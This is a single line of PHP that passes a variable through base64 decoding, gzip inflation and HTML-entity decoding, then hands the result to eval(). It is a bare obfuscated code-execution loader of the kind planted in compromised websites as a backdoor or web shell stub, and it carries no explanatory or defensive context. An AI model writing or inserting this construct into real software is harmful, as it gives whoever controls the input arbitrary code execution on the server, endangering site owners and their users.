<?php eval(htmlspecialchars_decode(gzinflate(base64_decode($p)))); ?>
